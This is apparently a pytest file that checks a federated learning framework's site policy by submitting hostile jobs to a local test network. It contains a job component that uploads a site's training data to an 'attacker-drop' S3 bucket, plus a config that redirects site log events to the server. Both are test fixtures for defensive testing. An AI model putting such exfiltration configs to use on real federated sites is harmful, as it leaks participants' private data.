"""Hostile jobs against fedesm's shipped site policy, on one real provisioned loopback network.

Server + 2 sites as separate processes from their kits (mutual TLS on loopback), every kit's
``local/`` written by `fedesm.launch.policy` (the job checker as NVFLARE's app validator, exact class
allow-lists, the version guard, the shipped defaults everywhere), moto's S3 server on loopback as
the attacker's bucket. Each attack is submitted as a job submitter would (`nvflare job submit`'s
API) and the tests assert what reached the attacker (nothing), not only that an error was printed.

To show that a *site* refuses on its own (the orchestrator may be a third party), the attacks at the
sites are deployed with a ``deploy_map`` that gives the server an honest app and the sites the
hostile one; one attack goes to every participant and the server refuses it first.
"""

from __future__ import annotations

import json
import shutil
import tempfile
from pathlib import Path

import boto3
import pytest

from fedesm.launch.jobs import CLIENT_CONFIG, META, VERSION_KEY, export_job
from fedesm.launch.network import LocalNetwork, free_port
from tests.s3_server import MotoS3Server, point_env_at

pytestmark = pytest.mark.slow

ATTACKER_BUCKET = "attacker-drop"
TINY = ["model.arch=esm2_t2_tiny", "training.rounds=1", "training.steps_per_round=4", "lora.r=4",
        "training.max_len=150"]
CHECK = "NVFLARE_ERROR: fedesm job check: "


@pytest.fixture(scope="module")
def network(tmp_path_factory):
    from fedesm.data.split import split_records, write_split
    from fedesm.data.synth import synth_records
    from fedesm.model.checkpoint import make_random_checkpoint
    from fedesm.site_config import write_site_config

    root = tmp_path_factory.mktemp("hostile")
    records = synth_records(n=80, n_families=6, pos_rate=0.1, min_len=60, max_len=150, seed=5)
    write_split(split_records(records, "iid", 2, seed=5, site_val_frac=0.2), root / "data")
    ckpt = make_random_checkpoint("esm2_t2_tiny", root / "models" / "esm2_t2_tiny.pt")
    site_config = write_site_config(root / "site.yaml", ckpt, root / "data")
    moto = MotoS3Server().start()
    try:
        with pytest.MonkeyPatch.context() as mp:
            point_env_at(mp, moto, root)  # the sites inherit working credentials: an unrefused upload would land
            mp.setenv("FEDESM_SITE_CONFIG", str(site_config))
            boto3.client("s3", endpoint_url=moto.endpoint_url).create_bucket(Bucket=ATTACKER_BUCKET)
            net = LocalNetwork(root / "net", site_policy=True, admin_port=free_port())
            with net:
                yield {"net": net, "root": root, "ckpt": ckpt, "moto": moto}
    finally:
        moto.stop()


def honest_bundle(network, name: str) -> Path:
    out = Path(tempfile.mkdtemp(dir=network["root"], prefix="bundle-"))
    return export_job("esm2_fra_lora", out, TINY + [f"model.backbone={network['ckpt']}"], job_name=name)


def sites_get(job: Path, edit_client_config) -> Path:
    """The server gets the honest app, the sites one whose client config `edit_client_config` changed."""
    shutil.copytree(job / "app", job / "app_server")
    shutil.move(job / "app", job / "app_site")
    path = job / "app_site" / "config" / "config_fed_client.json"
    path.write_text(json.dumps(edit_client_config(json.loads(path.read_text())), indent=2))
    meta = json.loads((job / META).read_text())
    meta["deploy_map"] = {"app_server": ["server"], "app_site": ["site-1", "site-2"]}
    (job / META).write_text(json.dumps(meta, indent=2))
    return job


def run(network, job: Path) -> dict:
    net = network["net"]
    return net.follow(net.submit(job), timeout=300, poll_interval=1.0)


def detail(meta: dict) -> dict:
    return dict(line.split(": ", 1) for line in meta["job_deploy_detail"] if ": " in line)


def bucket_keys(network) -> list:
    listing = boto3.client("s3", endpoint_url=network["moto"].endpoint_url).list_objects_v2(Bucket=ATTACKER_BUCKET)
    return [o["Key"] for o in listing.get("Contents", [])]


def test_hostile_jobs_are_refused_at_deployment_and_an_honest_job_completes(network):
    net, root = network["net"], network["root"]
    train_file = root / "data" / "site-1" / "train.fa"
    assert train_file.is_file()
    exfil = {"id": "exfil", "path": "fedesm.storage.upload",
             "args": {"local_path": str(train_file), "uri": f"s3://{ATTACKER_BUCKET}/",
                      "endpoint_url": network["moto"].endpoint_url}}

    # (a) a configuration-only job that names a fedesm function: the sites refuse it, the bucket stays empty
    job = sites_get(honest_bundle(network, "exfil-at-sites"), lambda c: {**c, "components": c["components"] + [exfil]})
    meta = run(network, job)
    assert meta["status"] == "FINISHED:FAILED_TO_RUN"
    said = detail(meta)
    assert said["server"] == "OK"
    for site in ("site-1", "site-2"):
        assert said[site] == (CHECK + "config/config_fed_client.json: component 'exfil' names 'fedesm.storage.upload', "
                              "which is not one of fedesm's job component classes "
                              "(fedesm.flare.job_check.COMPONENT_CLASSES)")
        assert not (net.kit(site) / meta["job_id"]).exists()  # nothing of it stayed at the site
    assert str(root) not in json.dumps(meta)  # the refusal carries nothing of the site's
    assert bucket_keys(network) == []

    # the same job to every participant: the server's own check refuses it before any site sees it
    job = honest_bundle(network, "exfil-everywhere")
    client = json.loads((job / CLIENT_CONFIG).read_text())
    (job / CLIENT_CONFIG).write_text(json.dumps({**client, "components": client["components"] + [exfil]}))
    meta = run(network, job)
    assert meta["status"] == "FINISHED:FAILED_TO_RUN"
    assert detail(meta)["server"].startswith("fedesm job check: config/config_fed_client.json: component 'exfil'")
    assert not any((net.kit(s) / meta["job_id"]).exists() for s in ("site-1", "site-2"))
    assert bucket_keys(network) == []

    # (b) a job that turns NVFLARE's log events into messages to the server: refused, no site log line leaves
    def convert_logs(c):
        for comp in c["components"]:
            if comp["id"] == "event_to_fed":
                comp["args"]["events_to_convert"] = ["analytix_log_stats", "_warning_log_available",
                                                     "_error_log_available", "_info_log_available"]
        return c

    meta = run(network, sites_get(honest_bundle(network, "log-leak"), convert_logs))
    assert meta["status"] == "FINISHED:FAILED_TO_RUN"
    for site in ("site-1", "site-2"):
        assert detail(meta)[site].startswith(CHECK + "config/config_fed_client.json: "
                                             "components[event_to_fed].args.events_to_convert: ")
    server_job = net.kit(net.state.server) / meta["job_id"]
    assert not list(server_job.rglob("*tfevents*"))  # no event file, so no site's log line in one
    for path in (p for p in server_job.rglob("*") if p.is_file()):
        assert str(root / "data") not in path.read_text(errors="replace"), path

    # (c) a bundle that records no fedesm version: the server's guard refuses the submission in one line
    job = honest_bundle(network, "no-version")
    meta_json = json.loads((job / META).read_text())
    del meta_json[VERSION_KEY]
    (job / META).write_text(json.dumps(meta_json))
    with pytest.raises(Exception, match="fedesm version missing: no-version records no fedesm_version"):
        net.submit(job)

    # (d) an honest shipped job still completes under the same policy
    meta = run(network, honest_bundle(network, "honest"))
    assert meta["status"] == "FINISHED:COMPLETED", meta
    assert sorted(meta["job_deploy_detail"]) == ["server: OK", "site-1: OK", "site-2: OK"]
    assert bucket_keys(network) == []
